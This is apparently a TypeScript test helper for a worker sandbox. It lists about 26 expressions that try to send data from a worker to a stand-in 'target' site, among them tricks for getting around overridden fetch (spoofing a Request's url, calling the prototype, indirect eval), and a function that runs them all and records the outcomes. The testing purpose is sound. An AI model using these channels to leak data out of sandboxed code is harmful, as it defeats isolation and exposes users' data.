/**
 * Ways in which code that runs in a worker could send a review to another site, as expressions: in
 * the text of a test, `import()` would be the test runner's. `target` is the other site's address,
 * `datagrams` a port of it, `redirect` an address of this site that leads there. Each of them
 * settles; what does not exist in a realm throws.
 */
export const networkAttacks = {
  'fetch GET': 'fetch(target + "fetch-get?review")',
  'fetch POST': 'fetch(target + "fetch-post", { method: "POST", body: "review", mode: "no-cors" })',
  'fetch through a redirect': 'fetch(redirect)',
  'fetch of a Request that is changed on the way': `(() => {
    const request = new Request(target + "fetch-request");
    Object.defineProperty(request, "url", { value: self.origin + "/" });
    Object.defineProperty(Request.prototype, "url", { get: () => self.origin + "/", configurable: true });
    return fetch(request);
  })()`,
  'fetch of the prototype':
    'WorkerGlobalScope.prototype.fetch.call(self, target + "fetch-prototype")',
  'fetch after its replacement is deleted':
    '(Reflect.deleteProperty(self, "fetch"), self.fetch(target + "fetch-deleted"))',
  'import()': 'import(target + "import.js?review")',
  importScripts: 'importScripts(target + "import-scripts.js?review")',
  'importScripts of the prototype':
    'WorkerGlobalScope.prototype.importScripts.call(self, target + "import-scripts-prototype.js")',
  XMLHttpRequest: `new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = resolve;
    request.onerror = reject;
    request.open("POST", target + "xml-http-request");
    request.send("review");
  })`,
  WebSocket: `new Promise((resolve, reject) => {
    const socket = new WebSocket(target.replace("http", "ws") + "web-socket?review");
    socket.onopen = resolve;
    socket.onerror = reject;
  })`,
  WebSocketStream: 'new WebSocketStream(target.replace("http", "ws") + "web-socket-stream").opened',
  EventSource: `new Promise((resolve, reject) => {
    const source = new EventSource(target + "event-source?review");
    source.onopen = resolve;
    source.onerror = reject;
  })`,
  WebTransport: 'new WebTransport(target.replace("http", "https") + "web-transport").ready',
  sendBeacon: 'navigator.sendBeacon(target + "beacon", "review")',
  WebRTC: `new Promise((resolve) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + datagrams }] });
    connection.onicegatheringstatechange = () => connection.iceGatheringState === "complete" && resolve();
    connection.createDataChannel("review");
    connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  })`,
  'nested worker': `new Promise((resolve, reject) => {
    const script = "fetch(" + JSON.stringify(target + "nested-worker") + ").then(() => postMessage(1), () => postMessage(0))";
    const worker = new Worker(URL.createObjectURL(new Blob([script])));
    worker.onmessage = ({ data }) => (data ? resolve() : reject(new Error("refused")));
    worker.onerror = reject;
  })`,
  'shared worker': 'new SharedWorker(target + "shared-worker.js")',
  'Cache.add': 'caches.open("attack").then((cache) => cache.add(target + "cache-add"))',
  'Cache.addAll': 'caches.open("attack").then((cache) => cache.addAll([target + "cache-add-all"]))',
  'font face': 'new FontFace("review", "url(" + target + "font)").load()',
  'background fetch': 'registration.backgroundFetch.fetch("attack", target + "background-fetch")',
  'picture of a notification':
    'registration.showNotification("attack", { icon: target + "icon", image: target + "image" })',
  'service worker of its own': 'navigator.serviceWorker.register("service-worker.js?review")',
  openWindow: 'clients.openWindow(target + "open-window")',
  'navigation of a page': `clients.matchAll({ type: "window" }).then(async ([client]) => {
    await client.navigate(target + "navigate?review");
  })`,
  eval: '(0, eval)("fetch")(target + "eval")',
} as const;

export type NetworkAttack = keyof typeof networkAttacks;

/**
 * An expression that tries them, but for those named, and gives what came of each: `sent`, or the
 * name of what was thrown.
 */
export function tryNetworkAttacks(
  except: NetworkAttack[],
  settings: { target: string; redirect: string; datagrams: number },
): string {
  const tries = (Object.entries(networkAttacks) as [NetworkAttack, string][])
    .filter(([name]) => !except.includes(name))
    .map(([name, attack]) => `await attempt(${JSON.stringify(name)}, () => ${attack});`);
  return `(async ({ target, redirect, datagrams }) => {
    const outcomes = {};
    const attempt = async (name, attack) => {
      try {
        await attack();
        outcomes[name] = 'sent';
      } catch (thrown) {
        outcomes[name] = thrown?.name ?? thrown?.type ?? String(thrown);
      }
    };
    ${tries.join('\n')}
    return outcomes;
  })(${JSON.stringify(settings)})`;
}
